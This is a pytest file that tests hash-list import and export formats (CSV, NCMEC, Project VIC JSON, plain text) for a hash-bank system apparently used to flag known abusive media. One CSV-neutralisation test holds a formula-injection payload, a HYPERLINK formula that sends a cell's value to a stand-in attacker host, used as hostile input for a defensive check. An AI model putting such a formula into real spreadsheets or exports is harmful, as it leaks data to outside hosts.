"""Every hash list format: read, write, and read back what was written."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest

from classifiers.banks import BankStore, NewEntry
from classifiers.banks.formats import FormatError, read_entries, write_entries

MD5 = "d41d8cd98f00b204e9800998ecf8427e"
SHA1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709"
SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
PDQ = "f" * 16 + "0" * 16 + "a5" * 16
PHASH = "c2924c5532bddfc8"
CRH = "43061c1996011306,c5c0e1c2849c31b1"


@pytest.fixture
def store(tmp_path: Path) -> BankStore:
    store = BankStore(tmp_path / "banks")
    store.create_bank("known")
    store.add_entries("known", [
        NewEntry(md5=MD5, sha1=SHA1, sha256=SHA256, pdq=PDQ, phash=PHASH, category="A1",
                 note="first, with a comma", source_list="test-list", crop_resistant=CRH),
        NewEntry(md5="0" * 32, category="B2"),
        NewEntry(pdq="1" * 64, category="A2"),
    ], added_by="tester")
    return store


def _identity(entry) -> tuple:
    return (entry.md5, entry.sha1, entry.sha256, entry.pdq, entry.phash, entry.category)


def _round_trip(store: BankStore, fmt: str, algorithm: str | None = None) -> list[NewEntry]:
    out = io.StringIO()
    write_entries(store.entries("known"), out, fmt, algorithm=algorithm)  # type: ignore[arg-type]
    return list(read_entries(_readable(out.getvalue(), fmt), fmt, algorithm=algorithm))  # type: ignore[arg-type]


def _readable(text: str, fmt: str) -> io.StringIO | io.BytesIO:
    """What open_list gives a reader: bytes for VICS JSON, text for the rest."""
    return io.BytesIO(text.encode()) if fmt == "vics" else io.StringIO(text)


def test_csv_round_trip_keeps_everything(store: BankStore) -> None:
    back = _round_trip(store, "csv")
    assert [_identity(e) for e in back] == [_identity(e) for e in store.entries("known")]
    assert back[0].note == "first, with a comma" and back[0].source_list == "test-list"
    assert back[0].severity == 4 and back[0].crop_resistant == CRH


def test_ncmec_round_trip(store: BankStore) -> None:
    back = _round_trip(store, "ncmec")
    assert [(e.md5, e.pdq, e.category) for e in back] == [
        (MD5, PDQ, "A1"), ("0" * 32, None, "B2"), (None, "1" * 64, "A2")]


def test_ncmec_requires_known_categories() -> None:
    with pytest.raises(FormatError, match="line 2"):
        list(read_entries(io.StringIO(f"md5,category\n{MD5},Z9\n"), "ncmec"))
    with pytest.raises(FormatError, match="category column"):
        list(read_entries(io.StringIO(f"md5\n{MD5}\n"), "ncmec"))


def test_vics_round_trip_keeps_md5_sha1_items(store: BankStore) -> None:
    out = io.StringIO()
    assert write_entries(store.entries("known"), out, "vics") == 2  # the PDQ-only one cannot
    document = json.loads(out.getvalue())
    assert document["@odata.context"].endswith("$metadata#Media")
    assert document["value"][0]["MD5"] == MD5.upper() and document["value"][0]["Category"] == 1
    back = list(read_entries(_readable(out.getvalue(), "vics"), "vics"))
    assert [(e.md5, e.sha1, e.pdq, e.category) for e in back] == [
        (MD5.upper(), SHA1.upper(), PDQ, "VICS-1"), ("0" * 32, None, None, "VICS-1")]
    assert back[0].normalised().md5 == MD5


def test_vics_reads_project_vic_style_document() -> None:
    document = {
        "@odata.context": "http://github.com/VICSDATAMODEL/ProjectVic/DataModels/2.0.xml/"
                          "Default/$metadata#Media",
        "value": [
            {"MediaID": 1, "Category": 0, "MD5": MD5.upper(), "SHA1": SHA1.upper(),
             "MediaSize": 2835, "DateUpdated": "2023-06-07T02:31:49.8300Z"},
            {"MediaID": 2, "Category": 3, "MD5": "A" * 32},
            {"MediaID": 3, "Category": 1},
        ],
    }
    bom = b"\xef\xbb\xbf"
    entries = list(read_entries(io.BytesIO(bom + json.dumps(document).encode()), "vics"))
    assert [(e.external_id, e.category) for e in entries] == [("1", "VICS-0"), ("2", "VICS-3")]
    media_key = json.dumps({"Media": document["value"]})
    assert len(list(read_entries(_readable(media_key, "vics"), "vics"))) == 2
    assert list(read_entries(_readable('{"value": []}', "vics"), "vics")) == []
    for broken, reason in (('{"foo": []}', "needs a 'value'"), ('{"value": 3}', "needs a 'value'"),
                           ('{"value": [7]}', r"Media\[0\]: not a JSON object"),
                           ('{"value": [{"MD5": "zz"}]}', r"Media\[0\]"),
                           ('{"value": [{"MD5": "', "not JSON")):
        with pytest.raises(FormatError, match=reason):
            list(read_entries(_readable(broken, "vics"), "vics"))


def test_vics_export_streams_valid_json_with_unicode_notes(store: BankStore) -> None:
    store.add_entries("known", [NewEntry(md5="1" * 32, note="trẻ em <b>\"quoted\"</b>")], "tester")
    out = io.StringIO()
    assert write_entries(store.entries("known"), out, "vics") == 3
    assert json.loads(out.getvalue())["value"][2]["Comments"] == "trẻ em <b>\"quoted\"</b>"
    empty = io.StringIO()
    assert write_entries([], empty, "vics") == 0
    assert json.loads(empty.getvalue())["value"] == []


@pytest.mark.parametrize("algorithm", ["md5", "pdq", "phash"])
def test_text_round_trip(store: BankStore, algorithm: str) -> None:
    back = _round_trip(store, "text", algorithm)
    expected = [getattr(e, algorithm) for e in store.entries("known") if getattr(e, algorithm)]
    assert [getattr(e, algorithm) for e in back] == expected


def test_text_detects_algorithm_by_length_and_refuses_ambiguity() -> None:
    text = f"# a comment\n{MD5.upper()}\n\n{SHA1}  trailing words\n0x{PHASH},extra\n"
    entries = list(read_entries(io.StringIO(text), "text"))
    assert [(e.md5, e.sha1, e.phash) for e in entries] == [
        (MD5, None, None), (None, SHA1, None), (None, None, PHASH)]
    with pytest.raises(FormatError, match="sha256 or pdq"):
        list(read_entries(io.StringIO(SHA256 + "\n"), "text"))
    assert list(read_entries(io.StringIO(SHA256 + "\n"), "text", algorithm="sha256"))[0].sha256
    with pytest.raises(FormatError, match="line 1"):
        list(read_entries(io.StringIO("xyz\n"), "text", algorithm="md5"))


def test_csv_header_aliases_and_bad_rows() -> None:
    text = f"MD5 Hash,Classification,Comments,unknown\n{MD5.upper()},a1,hello,x\n,,,\n"
    (entry,) = read_entries(io.StringIO(text), "csv", source_list="upload.csv")
    assert (entry.md5, entry.category, entry.note, entry.source_list) == (
        MD5.upper(), "a1", "hello", "upload.csv")
    assert entry.normalised().category == "A1" and entry.normalised().severity == 4
    with pytest.raises(FormatError, match="no hash column"):
        list(read_entries(io.StringIO("name,size\na,1\n"), "csv"))


def test_reimport_is_idempotent(store: BankStore) -> None:
    out = io.StringIO()
    write_entries(store.entries("known"), out, "csv")
    result = store.add_entries("known", read_entries(io.StringIO(out.getvalue()), "csv"), "again")
    assert (result.added, result.duplicates) == (0, 3)


def test_csv_exports_neutralise_formulas_and_read_back_unchanged(tmp_path) -> None:
    """Issue 18.4: a hash list's note must not become a live formula in a bank export."""
    import csv

    formula = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    store = BankStore(tmp_path / "banks")
    store.create_bank("hostile")
    store.add_entries("hostile", [NewEntry(md5="a" * 32, category="A1", note=formula),
                                  NewEntry(md5="b" * 32, category="A1", note="-1 day")],
                      added_by="tester")
    out = io.StringIO()
    write_entries(store.entries("hostile"), out, "csv")
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert "'" + formula in cells and "'-1 day" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    back = list(read_entries(io.StringIO(out.getvalue()), "csv"))
    assert sorted(e.note for e in back) == sorted([formula, "-1 day"])


@pytest.mark.parametrize("fmt", ["csv", "ncmec", "text"])
def test_a_list_that_is_not_utf8_is_a_format_error(fmt: str, tmp_path: Path) -> None:
    """Found by the fuzz target (tests/fuzz): invalid UTF-8 raised UnicodeDecodeError, a
    traceback from ``harmwatch banks import`` instead of a one-line refusal."""
    from classifiers.banks.formats import open_list

    path = tmp_path / "list.txt"
    path.write_bytes(b"md5\n" + b"d41d8cd98f00b204e9800998ecf8427e\n" + b"\xfd*\xf6\n")
    with open_list(path, fmt) as fp, pytest.raises(FormatError, match="UTF-8"):
        list(read_entries(fp, fmt, algorithm="md5"))


@pytest.mark.parametrize("media", [{"MD5": ["d41d8cd98f00b204e9800998ecf8427e"]}, {"MD5": 5},
                                   {"SHA1": {"x": 1}},
                                   {"MD5": "d41d8cd98f00b204e9800998ecf8427e", "Comments": 5}])
def test_vics_values_of_the_wrong_json_type_are_a_format_error(media: dict) -> None:
    """Found by the fuzz target: a hash that is not a string raised AttributeError."""
    document = json.dumps({"value": [media]}).encode()
    with pytest.raises(FormatError, match=r"Media\[0\]"):
        list(read_entries(io.BytesIO(document), "vics"))
